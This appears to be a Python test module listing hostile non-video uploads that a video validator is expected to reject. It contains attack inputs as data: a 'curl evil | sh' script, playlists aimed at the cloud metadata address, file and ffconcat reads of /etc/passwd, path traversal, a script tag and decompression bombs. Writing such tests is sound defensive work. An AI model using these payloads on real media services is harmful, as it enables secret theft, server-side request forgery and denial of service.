"""What is no video: text, playlists, archives, pictures, sound, noise behind a true beginning."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile

from tests.hostile.case import Case, Forge, drawn, encoded, noise, written

SECRET = "/etc/passwd"
METADATA = "http://169.254.169.254/latest/meta-data/"

HLS = """#EXTM3U
#EXT-X-TARGETDURATION:10
#EXTINF:10.0,
{}
#EXT-X-ENDLIST
"""
DASH = f"""<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S">
<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">
<BaseURL>{METADATA}</BaseURL></Representation></AdaptationSet></Period></MPD>
"""
SDP = """v=0
o=- 0 0 IN IP4 169.254.169.254
s=x
c=IN IP4 169.254.169.254
t=0 0
m=video 80 RTP/AVP 96
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" width="9999999" height="9999999">
<image href="file://{SECRET}"/></svg>
"""
ASX = f'<asx version="3.0"><entry><ref href="{METADATA}"/></entry></asx>'
IMF = '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"/>'


def _zip(_: Forge) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.mp4", bytes(20 << 20))
    return packed.getvalue()


def _mime_ts(text: str) -> bytes:
    """A playlist that a look for text takes for binary."""
    return text.encode() + b"\0\x01\x02"


TEXT = "a text file, not a video"
PLAYLIST = "a playlist, not a video"
UNREAD = "no video that can be read"

CASES: tuple[Case, ...] = (
    written("empty.mp4", b"", "rejected", "an empty file"),
    written("zeros.mp4", bytes(1 << 20), "rejected", "nothing but zeros"),
    written("one-byte.mp4", b"x", "rejected", TEXT),
    written("archive.mp4", _zip, "rejected", "a ZIP archive"),
    written("bomb.mp4.gz", lambda _: gzip.compress(bytes(50 << 20)), "rejected", "a gzip archive"),
    written("document.mp4", b"%PDF-1.7\n" + noise(5_000), "rejected", "a PDF document"),
    written("program.mp4", b"\x7fELF\2\1\1" + noise(5_000), "rejected", "a program"),
    written("windows.mp4", b"MZ\x90\0" + noise(5_000), "rejected", "a Windows program"),
    written("page.mp4", b"<!doctype html><script>alert(1)</script>", "rejected", TEXT),
    written("shell.mp4", b"#!/bin/sh\ncurl evil | sh\n", "rejected", TEXT),
    written("hls-file.m3u8", HLS.format(SECRET).encode(), "rejected", PLAYLIST),
    written("hls-metadata.mp4", HLS.format(METADATA).encode(), "rejected", PLAYLIST),
    written("hls-binary.mp4", _mime_ts(HLS.format(f"file://{SECRET}")), "rejected", PLAYLIST),
    written("hls-concat.mp4", _mime_ts(HLS.format(f"concat:{SECRET}|x.mp4")), "rejected", PLAYLIST),
    written("concat.mp4", f"ffconcat version 1.0\nfile {SECRET}\n".encode(), "rejected", TEXT),
    written(
        "concat-binary.mp4",
        _mime_ts(f"ffconcat version 1.0\nfile {SECRET}\n"),
        "rejected",
        "a kind of file that is not screened|no video that can be read",
    ),
    written("dash.mpd", DASH.encode(), "rejected", TEXT),
    written("dash-binary.mp4", _mime_ts(DASH), "rejected", "not screened|can be read"),
    written("session.sdp", SDP.encode(), "rejected", TEXT),
    written("session-binary.mp4", _mime_ts(SDP), "rejected", "not screened|can be read"),
    written("drawing.svg", SVG.encode(), "rejected", TEXT),
    written("metafile.asx", ASX.encode(), "rejected", TEXT),
    written("imf.xml", IMF.encode() + b"\0", "rejected", "not screened|can be read"),
    written("chapters.mp4", b";FFMETADATA1\ntitle=x\n\0", "rejected", "not screened|can be read"),
    written("subtitles.mp4", b"1\n00:00:00,000 --> 00:00:01,000\n/etc/passwd\n", "rejected", TEXT),
    written(
        "subtitles.ass",
        b"[Script Info]\n[Fonts]\nfontname: ../../etc/passwd\n" + b"M" * 4_000,
        "rejected",
        TEXT,
    ),
    written("vobsub.idx", b"# VobSub index file, v7\nid: en\n\0", "rejected", "screened|be read"),
    encoded("picture.png", "-frames:v", 1, status="rejected", reason=r"a picture \(PNG\)"),
    encoded("picture.jpg", "-frames:v", 1, status="rejected", reason=r"a picture \(JPEG\)"),
    encoded("sequence-%03d.png", "-frames:v", 1, "-update", 1, status="rejected", reason="PNG"),
    encoded("moving.gif", "-t", 1, status="rejected", reason=r"a picture \(GIF\)"),
    encoded("moving.apng", "-t", 1, status="rejected", reason=r"a picture \(PNG\)"),
    encoded("moving.webp", "-t", 1, status="rejected", reason=r"a picture \(WebP\)"),
    written(
        "picture-bomb.png",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 100_000, 100_000) + b"\x08\2\0\0\0",
        "rejected",
        "PNG",
    ),
    encoded("sound.wav", source=drawn(sine="d=1"), status="rejected", reason="a sound file"),
    encoded("sound.mp3", source=drawn(sine="d=1"), status="rejected", reason="a sound file"),
    encoded("sound.mp4", source=drawn(sine="d=1"), status="rejected", reason="only sound"),
    encoded("sound.mkv", source=drawn(sine="d=1"), status="rejected", reason="only sound"),
    encoded("sound.ogg", source=drawn(sine="d=1"), status="rejected", reason="only sound"),
    encoded(
        "cover.m4a",
        "-map",
        0,
        "-map",
        1,
        "-c:v",
        "mjpeg",
        "-frames:v",
        1,
        "-disposition:v",
        "attached_pic",
        source=(*drawn(sine="d=1"), *drawn(testsrc2="s=64x48:d=1")),
        status="rejected",
        reason="only a still picture",
    ),
    *(
        written(f"noise.{name}", beginning + noise(60_000, seed=number), "rejected", why)
        for number, (name, (beginning, why)) in enumerate(
            {
                "mp4": (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom", "moov atom"),
                "mkv": (b"\x1a\x45\xdf\xa3", UNREAD),
                "avi": (b"RIFF\xff\xff\0\0AVI LIST", "no moving"),
                "flv": (b"FLV\1\5\0\0\0\x09\0\0\0\0", "before its video begins"),
                "asf": (bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c"), UNREAD),
                "mpg": (b"\0\0\1\xba", UNREAD),
                "ogv": (b"OggS\0\2", "before its video begins"),
                "ivf": (
                    b"DKIF\0\0\x20\0AV01" + struct.pack("<HHIII", 64, 48, 30, 1, 99),
                    "more memory",
                ),
                "h264": (b"\0\0\0\1\x67", UNREAD),
                "hevc": (b"\0\0\0\1\x40\1", UNREAD),
                "mxf": (bytes.fromhex("060e2b34020501010d01020101020400"), UNREAD),
                "nut": (b"nut/multimedia container\0", UNREAD),
                "bin": (b"", UNREAD),
            }.items()
        )
    ),
)
